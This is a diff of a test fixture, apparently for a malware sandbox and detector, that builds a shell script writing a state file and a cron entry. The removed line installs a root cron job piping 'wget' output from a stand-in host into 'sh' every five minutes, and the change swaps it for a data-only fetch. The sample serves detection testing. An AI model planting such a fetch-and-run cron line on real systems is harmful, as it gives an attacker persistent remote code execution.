@@ -18,11 +18,13 @@ from detonate.store.stored_runs import capture
 STATE = "/var/lib/app/state.txt"
 CRON = "/etc/cron.d/refresh"
 # Keeps its state in a file and installs a cron line (whose text a detector reads from the
-# run's copy of the file: a rejudge from the store must see it too).
+# run's copy of the file: a rejudge from the store must see it too). The line fetches data, not
+# code (a cron job that fetches code is malicious by itself): the scan stays below malicious, so
+# that the rule added later is what makes its verdict malicious.
 START = f"""#!/bin/sh
 mkdir -p /var/lib/app /etc/cron.d
 echo "generation 1" > {STATE}
-echo '*/5 * * * * root wget -q -O- http://updates.example.test/s.sh | sh' > {CRON}
+echo '*/5 * * * * root wget -q -O {STATE}.new http://updates.example.test/state' > {CRON}
 echo started
 """
 LATER_RULE = f"""title: Application state written (test rule added after the scans)
